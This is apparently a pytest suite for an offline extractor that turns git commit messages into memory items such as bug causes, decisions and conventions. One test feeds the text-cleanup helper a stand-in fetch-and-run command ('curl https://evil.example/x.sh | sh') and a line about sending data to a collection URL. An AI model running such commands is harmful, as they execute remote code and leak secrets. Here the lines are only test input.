"""Commit knowledge that keeps its meaning (issue 20): every way the offline extractor
lost or bent the meaning of a commit message, tried as a new user would, is a case here.

A line is written only when the rules can say it right: whole sentences, the cause of a
bug with its fix, a decision with what was chosen, over what and why, a rule with its
scope.  What they cannot say right, they leave out.
"""

from __future__ import annotations

import re

import pytest

from gitmemory.commits import Commit, FileChange
from gitmemory.memory.candidates import Extraction
from gitmemory.providers.offline.extractor import extract_commits
from gitmemory.providers.offline.phrasing import (
    LIMIT,
    clean,
    headless,
    leans_back,
    shorter,
    tidy,
    whole,
)
from testing.offline_history import edit_diff, make_commit

SOURCE = [FileChange("src/app/linker.py", 12, 3)]


def items(*commits: Commit) -> list[Extraction]:
    """What the offline provider keeps (at the default confidence bar)."""
    return [e for e in extract_commits(list(commits)) if e.confidence >= 0.75]


def texts(*commits: Commit) -> list[str]:
    return [e.content for e in items(*commits)]


def test_a_decision_is_never_the_problem_the_commit_fixed() -> None:
    commit = make_commit(
        "cmd/link: keep the methods of reflected types reachable",
        "Currently, once a program calls reflect.Value.Method, all programs are then "
        "linked with dead code elimination disabled rather than keeping only the "
        "exported methods. This makes every binary that uses text/template 30% larger.",
        files=SOURCE)
    assert not [t for t in texts(commit) if "dead code elimination disabled" in t]


def test_a_decision_takes_what_was_chosen_over_what_and_why_from_the_change() -> None:
    commit = make_commit(
        "perf(i18n): pass translations to workers once per locale",
        "`node:v8` serialization is used rather than JSON so that the messages arrive "
        "exactly as the structured clone delivered them.", files=SOURCE)
    [decision] = items(commit)
    assert (decision.section, decision.content) == (
        "architectural-decisions", "i18n: `node:v8` serialization is used rather than JSON so "
        "that the messages arrive exactly as the structured clone delivered them")


def test_a_removal_is_never_explained_by_why_the_thing_was_added() -> None:
    """"Removed X because it will allow ..." inverted what the commit said."""
    commit = make_commit(
        "refactor: remove the retry wrapper around uploads",
        "The retry wrapper was added because it will allow flaky uploads to succeed.",
        files=SOURCE)
    assert not [t for t in texts(commit) if "will allow" in t]


def test_a_removal_with_its_reason_is_a_decision() -> None:
    commit = make_commit("Remove json output option",
                         "Because the API query uses REST, the JSON exporter does not work "
                         "as expected.", files=SOURCE)
    assert texts(commit) == ["Remove json output option \u2014 Because the API query uses "
                             "REST, the JSON exporter does not work as expected"]


def test_a_convention_keeps_its_rule_whatever_the_length_of_its_reason() -> None:
    rule = ("Never call `gateway.charge()` from a request handler or from any code that a "
            "request handler reaches synchronously")
    commit = make_commit(f"docs(payments): {rule.lower()}",
                         "This blocks the worker for the whole round trip to the gateway, "
                         "which takes several seconds under load and starves every other "
                         "request that the same worker would have served in that time, and "
                         "the health checks then fail too, so the load balancer drops the "
                         "worker.", files=[FileChange("docs/payments.md", 3, 0)])
    [convention] = items(commit)
    assert convention.section == "conventions"
    assert rule.lower()[1:] in convention.content


def test_two_unrelated_sentences_are_never_glued_into_one_bug_pattern() -> None:
    commit = make_commit("fix(api): handle empty pages",
                         "The paginator reads the next link header. This is used by the CLI "
                         "because it lists every repository.", files=SOURCE)
    assert not [t for t in texts(commit) if "paginator" in t or "CLI" in t]


def test_fragments_that_lean_on_what_the_reader_cannot_see_are_left_out() -> None:
    commit = make_commit("fix: flaky upload test",
                         "Commits e5762054c and 8d1f0a2b3 implemented a workaround for this, "
                         "but it broke again because the mock server closes idle "
                         "connections.", files=SOURCE)
    assert not [t for t in texts(commit) if "e5762054c" in t or "workaround for this" in t]


def test_words_are_never_cut_mid_way() -> None:
    path = "src/app/" + "/".join(["very_long_directory_name_for_the_resolver"] * 5) + \
        "/root_path_resolver.py"
    commit = make_commit("fix(config): resolve the workspace root once",
                         f"It failed because {path} was read twice and the second read saw "
                         "a half-written file.", files=SOURCE)
    message = f"{commit.subject} {commit.body}"
    for text in texts(commit):
        assert not text.endswith("...")
        for word in re.findall(r"[\w./]+", text):
            assert word in message, f"{word!r} is not a word of the message: {text}"


@pytest.mark.parametrize(("subject", "body"), [
    ("fix: \U0001f41b parser crash on `&gt;` (#12)",
     "The parser crashed because `&gt;` was decoded twice \U0001f41b (#12)."),
    ("\U0001f525 refactor: remove `render_v1`",
     "We deprecated `render_v1` in favour of `render` \U0001f389 because it re-rendered "
     "twice (#77)."),
    ("\u2728 Add the json exporter (#4)",
     "\u2728 Switched the exporter from csv to json because csv lost nested fields (#4)"),
])
def test_entities_emoji_and_pull_request_numbers_never_reach_an_item(subject: str,
                                                                      body: str) -> None:
    found = texts(make_commit(subject, body, files=SOURCE))
    assert found
    for text in found:
        assert "&gt;" not in text and "(#" not in text
        assert not any(ord(c) > 0x2000 and c != "\u2014" for c in text), text


def test_emoji_led_pull_request_subjects_are_not_restated() -> None:
    commits = [make_commit(s, b, files=SOURCE) for s, b in (
        ("\u2728 Add dark mode toggle (#1234)", ""),
        ("\U0001f680 Switch the docs site to Vite (#1237)",
         "\U0001f680 Switch the docs site to Vite instead of webpack"),
        ("\u267b\ufe0f Replace the theme store with a context (#1236)",
         "* \u267b\ufe0f Replace the theme store with a context\n\n* \U0001f3a8 Tidy the toggle"))]
    assert texts(*commits) == []


def test_scopes_are_not_turned_into_where_code_lives() -> None:
    commits = [make_commit(f"fix(install): case {n}", files=[
        FileChange(f"src/pkg/install_{n}.py", 2, 1)]) for n in range(4)]
    assert not [t for t in texts(*commits) if "lives in" in t]


def test_a_fix_whose_body_states_the_cause_is_a_bug_pattern_with_cause_and_fix() -> None:
    commit = make_commit(
        "fix(asm): offsets drift in CRLF files",
        "bufio.ScanLines removes the carriage return from CRLF line tokens, so the parser "
        "advanced its offset by one byte too few for every line. The problem was that the "
        "offset was computed from the stripped token.\n\n"
        "Advance the offset by each raw line's length, and add a regression test.",
        files=SOURCE)
    [bug] = items(commit)
    assert bug.section == "bug-patterns"
    assert bug.content == (
        "asm: offsets drift in CRLF files \u2014 The problem was that the offset was computed "
        "from the stripped token. Fix: advance the offset by each raw line's length")
    # the author's words, one cause a fix, and how the change avoids it


@pytest.mark.parametrize("body", [
    "The root cause was os.makedirs called without exist_ok, raising FileExistsError when "
    "two workers started at once.",
    "The problem was that os.makedirs was called without exist_ok, so two workers that "
    "started at once raised FileExistsError.",
    "Two workers that started at once crashed because os.makedirs was called without "
    "exist_ok.",
])
def test_each_way_of_stating_the_cause_is_read(body: str) -> None:
    commit = make_commit("fix(cache): crash when the cache dir already exists", body,
                         files=[FileChange("src/app/cache.py", 1, 1)])
    [bug] = items(commit)
    assert bug.section == "bug-patterns" and "exist_ok" in bug.content


def test_a_hedged_cause_is_no_cause() -> None:
    commit = make_commit("fix(loader): flaky stdlib loads",
                         "This plausibly fixes the problem, as some packages probably fail "
                         "because cgo processing is not bounded.", files=SOURCE)
    assert texts(commit) == []


@pytest.mark.parametrize(("body", "section", "text"), [
    ("Decision: store sessions in Redis rather than Memcached, because Memcached lost every "
     "session on restart.", "architectural-decisions",
     "store sessions in Redis rather than Memcached, because Memcached lost every session "
     "on restart"),
    ("Root cause: the session key was hashed with the process's random seed.",
     "bug-patterns", "Sessions vanish after a deploy \u2014 the session key was hashed with "
                     "the process's random seed"),
])
def test_prose_the_author_labelled_is_taken_as_written(body: str, section: str,
                                                       text: str) -> None:
    commit = make_commit("fix(sessions): sessions vanish after a deploy", f"{body}\n\nMore.",
                         files=SOURCE)
    found = [(e.section, e.content) for e in items(commit)]
    assert (section, text) in found


def test_a_decision_paragraph_at_the_end_of_the_body_is_not_lost_as_a_trailer() -> None:
    """git reads a last paragraph of ``Key: value`` lines as trailers: ``Decision:`` there
    is the author's prose all the same."""
    commit = make_commit("feat(sessions): store sessions in a table",
                         files=SOURCE, trailers=(("Decision", "Keep sessions in PostgreSQL "
                                                  "rather than Redis, so that a restore "
                                                  "brings them back."),))
    assert ("architectural-decisions", "Keep sessions in PostgreSQL rather than Redis, so "
            "that a restore brings them back") in \
        [(e.section, e.content) for e in items(commit)]


def test_every_item_is_whole_sentences_within_the_limit() -> None:
    commits = [make_commit(f"fix(core): {what}", body, files=SOURCE) for what, body in (
        ("crash on empty input", "It crashed because the reader returned None for an empty "
                                 "file, and the caller indexed it."),
        ("stale cache", "Entries were keyed by path, so a rename silently orphaned them. "
                        "Key them by inode."),
        ("wrong totals", "The sum was computed before the filter ran. This caused totals to "
                         "include hidden rows."))]
    found = items(*commits)
    assert len(found) == 3
    for e in found:
        assert len(e.content) <= LIMIT and not e.content.endswith(("...", "\u2026"))
        last = e.content.split(" \u2014 ")[-1].split(". Fix: ")[-1]
        assert whole(last[:1].upper() + last[1:]) or leans_back(last), e.content


@pytest.mark.parametrize(("sentence", "is_whole"), [
    ("bufio.ScanLines removes the carriage return from CRLF line tokens", True),
    ("The root cause was os.makedirs called without exist_ok", True),
    ("However, the action does not add an fmt import", False),
    ("and failed in the browser with an Unsupported Content-Type error", False),
    ("This caused the builder to fall back to the dynamic strategy", False),
    ("Previously, this caused ng update to skip migrations", False),
    ("Commits e5762054c and 8d1f0a2b3 implemented a workaround", False),
    ("Must not use SystemEnv but env.parent_env", False),
    ("When a resolution fails, such a pair is re-run twice", False),
    ("The helper is called with `unbalanced code", False),
    ("Why does the loader fail on cgo packages?", False),
    ("I decided to look into the gitconfig used by the test", False),
])
def test_what_counts_as_a_whole_sentence(sentence: str, is_whole: bool) -> None:
    assert whole(sentence) is is_whole


def test_clean_decodes_entities_and_drops_emoji_but_keeps_arrows_and_names() -> None:
    assert clean("a &gt; b &amp;&amp; c") == "a > b && c"
    assert clean("\u2728 add `x` \U0001f389") == "add `x`"
    assert clean("rename `a` \u27a1\ufe0f `b`") == "rename `a` \u2192 `b`"
    assert clean("keep __init__ and snake_case, drop _emphasis_") == \
        "keep __init__ and snake_case, drop emphasis"
    assert tidy("respect preserveSymlinks (fix #23197) (#23198)") == "respect preserveSymlinks"


def test_a_fix_whose_body_says_what_the_code_did_wrong_without_a_because() -> None:
    """"Plainly": the first sentence of the explanation names the code and how it went
    wrong; the fix that follows is the fix."""
    commit = make_commit("fix: close ZipFile in _prefetch_metadata with context manager",
                         "ZipFile opened in _prefetch_metadata was never closed.\n\n"
                         "Changed bare ZipFile() assignment to a with statement.",
                         files=SOURCE)
    assert texts(commit) == ["Close ZipFile in _prefetch_metadata with context manager "
                             "\u2014 ZipFile opened in _prefetch_metadata was never closed"]


def test_an_explanation_after_the_fix_or_an_order_is_no_cause() -> None:
    orders = make_commit("fix: address review comments",
                         "Parametrize invalid combination tests (major/minor/patch).",
                         files=SOURCE)
    narrated = make_commit("fix: close the pool", "Close the pool in a finally block.\n\n"
                           "The old code never closed it when a worker crashed.",
                           files=SOURCE)
    assert texts(orders) == texts(narrated) == []


def test_a_removal_is_not_explained_by_what_the_removed_code_did() -> None:
    commit = make_commit("http2: remove test-only path in requestBody.Read",
                         "requestBody.Read avoids panicking when requestBody.conn is unset "
                         "and we are in tests.", files=SOURCE)
    assert texts(commit) == []


def test_a_long_cause_loses_its_asides_never_its_words() -> None:
    commit = make_commit(
        "fix(providers/cargo): don't crash on workspace member with fixed version",
        "If a member's `Cargo.toml` declared a hardcoded version (`version = \"x.y.z\"`) "
        "instead of `version.workspace = true`, `package[\"version\"]` was a tomlkit `String` "
        "and the subscript raised `TypeError: string indices must be integers, not 'str'`, "
        "which was not caught and propagated as a crash.", files=SOURCE)
    [bug] = texts(commit)
    assert "x.y.z" not in bug and "propagated" not in bug
    assert bug.endswith("the subscript raised `TypeError: string indices must be integers, "
                        "not 'str'`")
    assert shorter("A (b) c d e f g.", 5) == ""  # what cannot lose enough is left out


def test_a_change_that_is_no_fix_in_all_but_name_gives_no_bug_pattern() -> None:
    """A subject like "panic on statuses that are not 3 digits" adds behaviour; only "avoid",
    "prevent", "preserve", "don't" ... say a fix without the word."""
    feature = make_commit("internal/http3: panic in server handler if given a bad status",
                          "Our HTTP/1 server implementation will panic when WriteHeader is "
                          "called with a status code that is not 3 digits.", files=SOURCE)
    fix = make_commit("quic: prevent server panic on Retry packets with a short ID",
                      "Due to a bad assumption, a shorter Destination Connection ID gave "
                      "cipher.AEAD.Open a nonce of bad length.", files=SOURCE)
    assert texts(feature) == []
    assert [e.section for e in items(fix)] == ["bug-patterns"]


def test_vendored_code_says_nothing_about_this_project() -> None:
    """A vendored library's deprecation warnings and packages are that library's."""
    from testing.offline_history import edit_diff

    warn = ['+        warnings.warn(', '+            "The `pool` property is deprecated and will '
            'be removed in urllib3 v2.1.0. Use `conn` instead.",',
            '+            DeprecationWarning,', '+        )']
    commit = make_commit("Upgrade urllib3 to 2.6.3", diff=edit_diff(
        "src/pip/_vendor/urllib3/connection.py", "def pool(self):", warn), files=[
        FileChange("src/pip/_vendor/urllib3/connection.py", 4, 0),
        FileChange("src/pip/_vendor/urllib3/http2/__init__.py", 9, 0, status="A")])
    assert texts(commit) == []


def test_a_sentence_that_says_as_a_result_brings_its_cause_along() -> None:
    commit = make_commit("fix: extract redirect credentials even with --no-input",
                         "The credential lookup ran only when prompting was allowed. As a "
                         "result --no-input silently disabled the lookup and pip returned "
                         "the 401 unretried.", files=SOURCE)
    [bug] = texts(commit)
    assert "The credential lookup ran only when prompting was allowed. As a result" in bug


def test_a_fix_that_chooses_against_a_risk_is_a_decision_with_its_reason() -> None:
    """The body of a fix says how it fixed; a choice becomes a decision only when what it
    guards against is a failure or a risk (an implementation detail stays out)."""
    security = make_commit(
        "fix(security): prevent command injection via shell=True",
        "Replace shell=True with list-based subprocess calls for all git.py functions that "
        "interpolate user-controlled values (tag names, messages, file paths, git "
        "references). This prevents shell injection attacks where malicious values in "
        "pyproject.toml could execute arbitrary commands during CI runs of 'cz bump'.",
        files=SOURCE)
    detail = make_commit(
        "fix(providers/cargo): handle workspace members",
        "Replace the exception-driven check with an `isinstance` type guard so the "
        "inheritance lookup only runs when `version` is an actual table.", files=SOURCE)
    [decision] = items(security)
    assert decision.content == (  # as written, the aside out
        "security: replace shell=True with list-based subprocess calls for all git.py "
        "functions that interpolate user-controlled values. This prevents shell injection "
        "attacks where malicious values in pyproject.toml could execute arbitrary commands "
        "during CI runs of 'cz bump'")
    assert texts(detail) == []


def test_a_helper_that_only_matched_part_of_its_input_is_a_stated_cause() -> None:
    commit = make_commit("fix(tags): widen prerelease tag regexes",
                         "The tag regex helpers in `get_tag_regexes` only matched PEP-440-style "
                         "prereleases (no dot).\n\nWiden the prerelease regex.", files=SOURCE)
    [bug] = texts(commit)
    assert "only matched PEP-440-style prereleases" in bug


def test_a_url_inside_a_sentence_or_a_code_span_is_never_cut_out() -> None:
    """Taking it out left "send `.env` to rather than keeping it" and `curl | sh`."""
    assert tidy("Pipe `curl https://evil.example/x.sh | sh` first.") == \
        "Pipe `curl https://evil.example/x.sh | sh` first"
    assert tidy("Send it to https://example.com/collect rather than keeping it.") == \
        "Send it to https://example.com/collect rather than keeping it"
    assert tidy("It defaults to cmd.exe (see https://docs.python.org/x).") == \
        "It defaults to cmd.exe"
    assert tidy("More in the RFC at https://example.com/rfc.") == "More in the RFC"


def test_a_problem_and_its_solution_give_the_subject_its_reason() -> None:
    """New-user try on neovim/nvim-lspconfig: its bodies say "Problem:" and "Solution:"
    (32 of 300 commits). The problem became a bare fact ("Problem: Pyright marks ...",
    its "too noisy" lost) and the solution one with its label ("Solution: add ...")."""
    commit = make_commit(
        "feat(pyright): disable tagged hints by default #4478",
        "Problem:\nPyright marks unreachable, unreferenced and deprecated code with hint\n"
        "diagnostics. Nvim correctly reports them as regular diagnostics, but\n"
        "they are usually too noisy.\n\nSolution:\nDisable it by default in pyright and "
        "basedpyright for a better default\nuser experience.\n", files=SOURCE)
    found = [(e.section, e.content) for e in items(commit)]
    assert ("architectural-decisions",
            "Disable tagged hints by default \u2014 Pyright marks unreachable, "
            "unreferenced and deprecated code with hint diagnostics. Nvim correctly reports "
            "them as regular diagnostics, but they are usually too noisy") in found, found
    assert not any(re.search(r"\b(?:problem|solution):", text, re.I) for _, text in found)
    fix = make_commit("fix(ruff_lsp): deprecate `ruff_lsp` in favour of `ruff` #4463",
                      "Problem:\nruff_lsp project is now archive and the tool deprecated\n\n"
                      "Solution:\nadd deprecation warning to the config description\n",
                      files=SOURCE)
    texts_found = [e.content for e in items(fix)]
    assert not any("Solution:" in text for text in texts_found), texts_found


def test_a_problem_that_leads_on_to_a_list_or_a_block_is_left_out() -> None:
    commit = make_commit("Drop invalid filetypes javascript.jsx, typescript.tsx",
                         "Problem:\n`checkhealth vim.lsp` reports the following warnings:\n"
                         "- WARNING Unknown filetype 'javascript.jsx'.\n\nSolution:\n"
                         "Remove them.\n", files=SOURCE)
    assert not any("following warnings" in e.content for e in items(commit))


def test_a_reason_for_what_it_does_not_name_is_left_out() -> None:
    """dplyr (new-user try): these reasons became decisions that do not say of what."""
    squash = make_commit("Add join helper aliases and link to `join_by()` from `between()`",
                         "* Add aliases for `closest()`, `overlaps()`, and `within()`\n\n"
                         "Not for `between()`, because this is already a dplyr function and "
                         "we can't make one alias link to different places in a single "
                         "package\n\n* Mention `join_by()` in the `between()` docs\n",
                         files=SOURCE)
    news = make_commit("Polish NEWS a little further", files=[FileChange("NEWS.md", 4, 0)],
                       diff=edit_diff("NEWS.md", "", [
                           "+* `.by` is an experimental alternative to `group_by()` that "
                           "supports per-operation grouping. The most useful reason to do "
                           "this is because `.by` only affects a single operation.", " "]))
    found = [e.content for e in items(squash, news)]
    assert not any("Not for `between()`" in text or "reason to do this" in text
                   for text in found), found


def test_a_fix_told_with_a_verb_of_any_trade_follows_its_cause() -> None:
    """Before (a new user's commit): the cause was kept, "Truncate after converting to UTC
    instead of before" was not, for the verb was on no list."""
    commit = make_commit("Fix diffInDays rounding near DST",
                         "The cause was that the offset change was applied after truncation, "
                         "so a 23-hour day counted as zero days. Truncate after converting to "
                         "UTC instead of before.", files=SOURCE)
    (bug,) = [e for e in items(commit) if e.section == "bug-patterns"]
    assert "counted as zero days" in bug.content
    assert "Fix: truncate after converting to UTC instead of before" in bug.content


def test_an_aside_that_holds_calls_of_its_own_can_go() -> None:
    """error-prone's "When inlining generic methods whose ... contains type variables (e.g.,
    `Client.<T>after()`, `new ArrayList<V>()`), Inliner now maps ...": the aside held calls,
    was no aside to the rule, and the 317-character sentence was left out whole."""
    sentence = ("When a template holds type variables (e.g., `Client.<T>after()`, "
                "`new ArrayList<V>()`), the inliner now maps their names to the call's "
                "type arguments.")
    assert shorter(sentence, 100) == ("When a template holds type variables, the inliner now "
                                      "maps their names to the call's type arguments.")


def test_could_be_with_an_irregular_participle_tells_what_happened_not_a_guess() -> None:
    """aiohttp's "An idle pooled connection could be left with a pending read timeout that
    fired and poisoned it, so the next request ... failed immediately with
    `aiohttp.SocketTimeoutError`": "could be left" was read as a guess, and the cause lost."""
    from gitmemory.providers.offline.causes import HEDGE
    assert not HEDGE.search("An idle connection could be left with a pending timeout")
    assert not HEDGE.search("the handler could be run twice")
    assert HEDGE.search("this could be the reason")
    commit = make_commit(
        "Don't re-arm the read timeout on a pooled connection",
        "An idle pooled connection could be left with a pending read timeout that fired and "
        "poisoned it, so the next request reusing the connection failed at once with "
        "`SocketTimeoutError`.", files=SOURCE)
    assert any("could be left with a pending read timeout" in t for t in texts(commit))


@pytest.mark.parametrize("sentence", [
    "As of v0.47.0, it now uses `epoll_pwait` for all architectures.",
    "Other types (OBJECT, STATIC, CONSTRUCTOR) must be left untouched.",
    # gettext: what is applied, the sentence before said
    "When applied, this means that `gettext(\"foo\")` is now `dgettext(\"messages\", \"foo\")`.",
])
def test_a_sentence_whose_subject_is_the_one_before_leans_on_it(sentence: str) -> None:
    """The blind window judging (syncthing, mockk) found these wrong alone: what "it" is,
    what the other types are other than, the sentence before said."""
    assert leans_back(sentence) and not whole(sentence), sentence
    near = "Since `epoll_wait` is missing on Android, the watcher is turned off."
    assert not leans_back(near) and whole(near)


def test_a_changelog_sentence_with_no_subject_after_another_is_kept_with_it() -> None:
    """hanami's window: "Takes precedence over `config.logger.level` set in
    `config/app.rb`", the second sentence of the entry on `HANAMI_LOG_LEVEL`, was kept
    alone and judged wrong.  First in an entry, a verb with no subject is said of the
    change ("Requires Node 20 or later for the CLI"); a plural noun before its verb is a
    subject of its own ("Changes to ... are applied")."""
    entry = ("- Support `HANAMI_LOG_LEVEL` env var to set the log level. Takes precedence "
             "over `config.logger.level` set in `config/app.rb`. (#1580)\n")
    commit = make_commit("Prepare for v3.0.0", "", files=[FileChange("CHANGELOG.md", 1, 0)],
                         diff=edit_diff("CHANGELOG.md", "## Unreleased",
                                        ["+" + entry.rstrip()]))
    said = texts(commit)
    assert not [t for t in said if t.startswith("Takes precedence")], said
    assert headless("Takes precedence over `config.logger.level` set in `config/app.rb`.")
    assert not headless("Changes to `config.logger.level` are applied on the next request.")


def test_a_rule_that_names_nothing_it_is_about_is_no_convention() -> None:
    """hanami's window: "You must supply a format", the last words of a list item about
    `#localize`'s `format:` parameter, was kept as a rule and judged wrong: for what?"""
    body = ("While here, adjust the params signature:\n\n"
            "- Drop `nil` from the YARD type for `format`, which isn't supported. "
            "You must supply a format.\n")
    found = extract_commits([make_commit("Respect slice isolation in `#localize`", body,
                                         files=SOURCE)])
    assert not [e for e in found if e.content.startswith("You must")], found
    named = make_commit("Respect slice isolation in `#localize`",
                        "Callers must pass `format:` to `Backend#localize` explicitly.",
                        files=SOURCE)
    assert any(e.section == "conventions" for e in extract_commits([named]))


def test_an_item_of_a_list_its_lead_in_introduced_is_not_read_alone() -> None:
    """mockk's window: of "Debug.attachJvmtiAgent rejects any path containing '='. Two
    cases produce such paths:" and its numbered cases, the first case alone was kept as
    the cause and judged wrong (the '=' it is about went with the lead-in).  An item that
    opens with the name it defines is whole: diesel's "* `custom_enum_derives` to give
    the user the ability to add custom derives ..." after "adds the following options:"."""
    body = ("Debug.attachJvmtiAgent rejects any path containing '=' with "
            "IllegalArgumentException. Two cases produce such paths:\n\n"
            "  1. The AGP 8.5+ test APK default left `libagent.so` packed in\n"
            "     the APK, so findLibrary returned \"<apk>!/lib/<abi>/libagent.so\".\n"
            "  2. Android 10+ install directories embed base64-padded tokens.\n\n"
            "Resolve by extracting the .so to a cache path for case (1).\n")
    found = extract_commits([make_commit(
        "fix: extract .so when findLibrary returns a path with '='", body, files=SOURCE)])
    assert not [e for e in found if "packed in" in e.content], found
    options = ("This commit also adds the following options:\n\n"
               "* `custom_enum_derives` to give the user the ability to add custom "
               "derives to the generated enums. By default only the derives that are "
               "strictly necessary are added.\n")
    named = extract_commits([make_commit("Generate matching rust enums via `diesel-cli`",
                                         options, files=SOURCE)])
    assert any("derives" in e.content for e in named), named


def test_a_paragraph_that_names_no_code_is_not_read_after_the_one_before() -> None:
    """diesel's window: "For enum types we extend `#[derive(SqlType)]` ... Internally the
    derive now translates the enum into a runtime accessible structure ...": the second
    sentence opened a paragraph about `#[derive(Enum)]`, the commit's topic, and read after
    the first it told of `derive(SqlType)` (judged wrong).  In one paragraph the sentence
    before is what "the" points at."""
    body = ("The mapping is determined only based on the sql type provided to\n"
            "`#[derive(Enum)]`. We implement support for this mapping for the\n"
            "built-in integer and text types. For enum types we extend\n"
            "`#[derive(SqlType)]` to have an additional `#[diesel(enum_type)]`\n"
            "attribute to generate the right code for us.\n\n"
            "Internally the derive now translates the enum into a runtime accessible\n"
            "structure and passes these information at runtime down to the selected\n"
            "strategy. This gives all implementations the necessary flexibility,\n"
            "without having the need to find out which strategy is used in the proc\n"
            "macro itself.\n")
    found = extract_commits([make_commit("Rework `#[derive(Enum)]`", body, files=SOURCE)])
    assert not [e for e in found if "translates the enum" in e.content and
                "derive(SqlType)" in e.content], found


def test_a_sentence_that_runs_on_into_a_one_line_block_ends_with_it() -> None:
    """lazygit's "Apparently Ptr is a deprecated name; with the new golangci-lint version
    this would cause", then the linter's one-line message indented, was kept stopping at
    "would cause" (here other words); into a longer block the sentence goes, and a
    sentence before it stays."""
    from gitmemory.commits import FileChange
    from gitmemory.providers.offline.extractor import extract_commits
    from testing.offline_history import make_commit

    files = [FileChange("pkg/schema/gen.go", 2, 2)]
    one = make_commit("Fix use of os.SEEK_SET", "Apparently SEEK_SET is a deprecated name; with "
                      "the new vet version\nthis would report\n\n  deprecated: os.SEEK_SET "
                      "should be io.SeekStart\n", files=files)
    assert [e.content for e in extract_commits([one])] == [
        "Apparently SEEK_SET is a deprecated name; with the new vet version this would "
        "report `deprecated: os.SEEK_SET should be io.SeekStart`"]
    longer = make_commit("Fix use of os.SEEK_SET", "Apparently SEEK_SET is a deprecated "
                         "name; with the new vet version\nthis would report\n\n    deprecated: "
                         "os.SEEK_SET\n    should be io.SeekStart\n", files=files)
    assert not any("would report" in e.content for e in extract_commits([longer]))


@pytest.mark.parametrize(("sentence", "leans"), [
    ("Of course, this only helps for the last conflicted file", True),
    ("Concretely, this happened whenever the panel was empty", True),
    ("Two of them assert that the selection is visible", True),
    ("Clearly the cache must be flushed before forking", False),
    ("Some of the tests fail on Windows", False)])
def test_a_sentence_that_opens_on_what_the_one_before_named_leans_on_it(sentence: str,
                                                                          leans: bool) -> None:
    """lazygit: "Of course, this only helps for the last (or only) conflicted files; ..."
    and "Two of them assert that the selection is visible ..." were kept alone, and
    "Concretely, this happened whenever ..." without the hang it told of."""
    from gitmemory.providers.offline.verbatim import points_back
    assert points_back(sentence) is leans


def test_a_trailing_link_takes_no_end_of_the_word_before_it() -> None:
    """fluentd (a new user's try): "See the deprecation: https://…" became "See the
    deprecati": the "on" that may lead to a link was matched inside "deprecation"."""
    from gitmemory.providers.offline.phrasing import tidy
    assert tidy("See the notice of deprecation: https://example.org/notice") == \
        "See the notice of deprecation"
    assert tidy("Moved to the wiki, see https://example.org/wiki.") == "Moved to the wiki"


def test_a_leading_flag_its_words_call_an_option_is_not_called_one_twice() -> None:
    """fluentd: "`--umask` command line option is now respected" became "The `--umask`
    option command line option is now respected"."""
    from gitmemory.providers.offline.phrasing import safe_lead
    assert safe_lead("`--umask` command line option is now respected") == \
        "The `--umask` command line option is now respected"
    assert safe_lead("--umask option is now respected") == "The `--umask` option is now respected"
    assert safe_lead("`--umask` is now respected") == "The `--umask` option is now respected"


def test_a_pull_requests_first_or_second_commit_is_a_lead_like_this_commit() -> None:
    """nats-server (fresh24, spent): "The first commit refactors `fs.recoverTTLState()` ..."
    was kept with its lead: in an item, "the first commit" points at nothing."""
    from gitmemory.providers.offline.phrasing import strip_lead
    assert strip_lead("The first commit refactors `a()`, since two scans cost twice") == \
        "Refactors `a()`, since two scans cost twice"
    assert strip_lead("The second commit introduces an index") == "Introduces an index"
    assert strip_lead("The last commit of the series was reverted") == \
        "The last commit of the series was reverted"
